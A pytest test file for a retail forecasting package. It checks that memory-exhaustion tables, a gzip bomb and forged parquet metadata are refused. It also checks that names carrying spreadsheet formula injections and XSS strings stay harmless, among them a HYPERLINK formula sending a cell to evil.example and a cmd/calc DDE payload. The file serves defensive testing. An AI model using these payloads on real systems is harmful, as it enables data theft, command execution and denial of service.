"""Tables that are made to fill memory, to be computed by a spreadsheet, or to run in a browser."""

import csv
import gzip
import io
import json
import re
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
import pytest
from pyarrow import parquet

from tests.supermegaretail import toy_forecaster, toy_panel, toy_run
from tests.supermegaretail.delivery_of import cleaned, deliver, weekly
from trainworks.__main__ import main
from trainworks.errors import DataError
from trainworks.supermegaretail.forecaster import Forecaster
from trainworks.supermegaretail.panel.panel import Panel
from trainworks.supermegaretail.tables import reading
from trainworks.supermegaretail.tables.acquire import acquire, check
from trainworks.supermegaretail.tables.source import File

CHILD = """
import json, os, resource, sys
from pathlib import Path
import numpy as np, pyarrow as pa
from pyarrow import parquet
from trainworks.supermegaretail.tables.acquire import acquire, check

MANY, ROW = 10**6, b"2026-01-05,P,1"

def columns_of_csv(folder):
    (folder / "sales.csv").write_bytes(b"date,product,quantity," + b",".join(b"c%d" % n for n in range(MANY)) + b"\\n" + ROW + b"," * MANY)

def columns_of_another_table(folder):
    (folder / "sales.csv").write_bytes(b"date,product,quantity\\n" + ROW)
    (folder / "products.csv").write_bytes(b"product," + b",".join(b"c%d" % n for n in range(MANY)) + b"\\nP" + b"," * MANY)

def columns_line_by_line(folder):
    row = '{"date": "2026-01-05", "product": "P", "quantity": 1, "c%d": 1}\\n'
    (folder / "sales.jsonl").write_text("".join(row % n for n in range(MANY // 10)))

def cell_of_csv(folder):
    with (folder / "sales.csv").open("wb") as file:  # a hole: none of its billion bytes is on the disk
        file.write(b"date,product,quantity\\n" + ROW + b"\\n2026-01-05,")
        file.seek(10**9)
        file.write(b",1\\n")

def cell_of_jsonl(folder):
    with (folder / "sales.jsonl").open("wb") as file:
        file.write(b'{"date": "2026-01-05", "product": "')
        file.seek(10**9)
        file.write(b'", "quantity": 1}')

def cell_of_parquet(folder):
    table = pa.table({"date": ["2026-01-05"] * 2, "product": ["P", "x" * (3 * 10**8)], "quantity": [1, 2]})
    parquet.write_table(table, folder / "sales.parquet", compression="zstd")

def rows_of_parquet(folder):
    day = pa.array(np.full(2**20, "2026-01-05", "datetime64[D]"))
    table = pa.table({"date": day, "product": ["P"] * 2**20, "quantity": np.ones(2**20)})
    with parquet.ParquetWriter(folder / "sales.parquet", table.schema) as file:
        for _ in range(20):
            file.write_table(table)

def apart(function, *given):
    reader, writer = os.pipe()
    if not (pid := os.fork()):
        os.write(writer, function(*given).encode())
        os._exit(0)
    assert os.waitpid(pid, 0)[1] == 0
    return os.read(reader, 9999).decode()

def made(make, folder):
    folder.mkdir()
    make(folder)
    return str(sum(path.stat().st_blocks * 512 for path in folder.iterdir()))

def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024

def said(folder):
    before = peak()
    try:
        check(str(folder), "", "UTC")
        acquire(str(folder), "")
        return "accepted"
    except Exception as error:
        return json.dumps([type(error).__name__, str(error), peak() - before])

for make in (columns_of_csv, columns_of_another_table, columns_line_by_line, cell_of_csv, cell_of_jsonl, cell_of_parquet, rows_of_parquet):
    folder = Path(sys.argv[1]) / make.__name__
    size = apart(made, make, folder)
    print(make.__name__, size, apart(said, folder), flush=True)
"""
LARGEST = 600
"""Megabytes that reading may take of what is refused."""


@pytest.fixture(autouse=True)
def artifacts(tmp_path, monkeypatch):
    """Stages' outputs go into the test's folder."""
    monkeypatch.setenv("TRAINWORKS_ARTIFACTS", str(tmp_path / "artifacts"))


@pytest.mark.slow
def test_what_is_made_to_fill_memory_is_refused_in_bounded_memory(tmp_path):
    """A million columns, in a header and one more in each line; a billion bytes in a cell; twenty million rows in 200 kB of parquet."""
    done = subprocess.run(
        [sys.executable, "-c", CHILD, tmp_path], capture_output=True, text=True, check=False, cwd=Path(__file__).parents[3]
    )
    assert done.returncode == 0, done.stderr
    answers = {line.split()[0]: json.loads(line.split(maxsplit=2)[2]) for line in done.stdout.splitlines()}
    assert len(answers) == 7 and {kind for kind, _, _ in answers.values()} == {"DataError"}
    assert max(megabytes for _, _, megabytes in answers.values()) < LARGEST, answers
    for name, words in {"columns": "columns, expected at most 2,000", "cell_of_": r"line \d: longer than|takes .* memory"}.items():
        assert all(re.search(words, message) for made, (_, message, _) in answers.items() if made.startswith(name)), answers
    assert "deliver it in several files" in answers["rows_of_parquet"][1]


def test_parquet_whose_facts_understate_what_it_holds_is_refused_when_it_is_read(tmp_path, monkeypatch):
    """They say that its rows take nothing."""
    monkeypatch.setattr(reading, "SMALL", 2**20)
    path = tmp_path / "sales.parquet"
    parquet.write_table(pa.table({"date": ["2026-01-05"], "product": ["x" * 2**22], "quantity": [1]}), path, compression="zstd")
    honest = parquet.read_metadata(path).row_group(0).total_byte_size
    content, at_least = path.read_bytes(), 2
    for size in {parquet.read_metadata(path).row_group(0).column(k).total_uncompressed_size for k in range(3)} | {honest}:
        said = _varint(size)
        if len(said) > at_least:
            content = content.replace(said, b"\x80" * (len(said) - 1) + b"\x00")
    path.write_bytes(content)
    assert parquet.read_metadata(path).row_group(0).total_byte_size == 0
    with pytest.raises(DataError, match=r"sales\.parquet: has .* and takes 4,194,\d+ or more"):
        reading.read(File("sales.parquet", path))


def _varint(number: int) -> bytes:
    """As Thrift writes a whole number that is not negative."""
    rest, written = 2 * number, bytearray()
    while rest > 127:
        written.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*written, rest])


def test_cells_that_are_not_there_take_memory_too(tmp_path, monkeypatch):
    """A first line with many columns, and many lines without."""
    monkeypatch.setattr(reading, "SMALL", 2**20)
    row = {"date": "2026-01-05", "product": "P", "quantity": 1}
    wide = row | {f"c{number}": 1 for number in range(1900)}
    (tmp_path / "sales.jsonl").write_text("\n".join(map(json.dumps, [wide, *[{"date": ""}] * 4000])))
    with pytest.raises(DataError, match=r"takes .* memory"):
        acquire(str(tmp_path), "")


def test_what_is_compressed_or_something_else_is_not_unpacked(tmp_path):
    """A table that ends in gz is none; gzip or parquet that is called CSV, or the other way round, is refused by name."""
    bomb = gzip.compress(b"0" * 10**7)
    (tmp_path / "sales.csv.gz").write_bytes(bomb)
    with pytest.raises(DataError, match="no table of sales"):
        check(str(tmp_path), "", "UTC")
    parquet.write_table(pa.table({"date": ["2026-01-05"], "product": ["P"], "quantity": [1]}), tmp_path / "a.parquet")
    contents = bomb, (tmp_path / "a.parquet").read_bytes(), weekly().encode()
    for number, (content, suffix) in enumerate(zip((*contents, bomb), ("csv", "csv", "parquet", "parquet"), strict=True)):
        folder = tmp_path / str(number)
        folder.mkdir()
        (folder / f"sales.{suffix}").write_bytes(content)
        with pytest.raises(DataError, match=rf"sales\.{suffix}"):
            check(str(folder), "", "UTC")


def test_a_billion_in_a_cell_is_no_quantity(tmp_path):
    """It is rejected with a reason, and so is any other number that nobody sells."""
    numbers = ("1000000000", "1e9", "1e308", "1e999", "-1e9", "9" * 400)
    lines = "".join(f"2026-01-05,0001,P{number},{text}\n" for number, text in enumerate(numbers))
    _, ledger = cleaned(deliver(tmp_path / "source", sales_csv=weekly() + lines))
    assert ledger["sales"]["kept"] == 100
    assert ledger["sales"]["rejected"] == {"a quantity that cannot be": 4, "quantity is no number": 2}


FORMULAS = ('=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)")
SCRIPTS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7 * 7 }}", "javascript:alert(1)")


def renamed(panel: Panel, names: tuple[str, ...]) -> Panel:
    """*panel*, whose products and categories have such *names*."""
    series = panel.series
    for key in ("product", "category"):
        known = series[key].unique().to_pylist()
        values = [names[known.index(value) % len(names)] for value in series[key].to_pylist()]
        series = series.set_column(series.column_names.index(key), key, pa.array(values))
    return replace(panel, series=series)


def test_formulas_are_names_byte_for_byte_and_harmless_in_a_spreadsheet(tmp_path, capsys):
    """From the table to the forecast; only in CSV for people an apostrophe stands before them, and none before a number."""
    lines = [f'2026-01-05,1,"{name.replace(chr(34), chr(34) * 2)}",3' for name in FORMULAS]
    tables, _ = cleaned(deliver(tmp_path / "source", sales_csv="\n".join(["date,store,product,quantity", *lines]) + "\n"))
    assert set(tables["sales"]["product"].to_pylist()) == set(FORMULAS)
    bundle = toy_forecaster.write(renamed(toy_panel.panel(stores=1, known=20), FORMULAS), tmp_path / "bundle")
    assert set(Forecaster.load(bundle).forecast()["product"].to_pylist()) == set(FORMULAS)
    assert main(["supermegaretail", "forecast", str(bundle)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {row["product"] for row in rows} == {f"'{name}" for name in FORMULAS} and all(float(row["mean"]) >= 0 for row in rows)


class Page(HTMLParser):
    """What of a page a browser would run or fetch, and its text."""

    def __init__(self, page: str):
        super().__init__()
        self.runs: list[tuple] = []
        self.text = ""
        self.feed(page)

    def handle_data(self, data):
        """Note the text."""
        self.text += data

    def handle_starttag(self, tag, attrs):
        """Note scripts, handlers and addresses."""
        if tag in ("script", "iframe", "object", "embed", "base", "form", "link"):
            self.runs.append((tag, attrs))
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src", "xlink:href") and not re.match(r"#|data:(image|font)/", value or "")):
                self.runs.append((tag, name, value))


def test_names_that_are_scripts_are_text_in_every_page(tmp_path, monkeypatch):
    """The report of a run of products, categories and stores with such names shows them, and a browser runs none."""
    drawn = toy_panel.panel
    monkeypatch.setattr(toy_panel, "panel", lambda *args, **knobs: renamed(drawn(*args, **knobs), SCRIPTS))
    monkeypatch.setattr(toy_run, "LEDGER", {"sales": {"read": 9, "kept": 8, "corrected": {}, "rejected": {SCRIPTS[0]: 1}}})
    made = toy_run.delivered(tmp_path)
    pages = [Page(path.read_text()) for path in sorted(made["bundle"].rglob("*.html"))]
    assert pages and not [page.runs for page in pages if page.runs]
    assert not [name for name in SCRIPTS if not any(name in page.text for page in pages)]
    assert Page("<p onclick=x><script></script><a href='javascript:x'></a>").runs
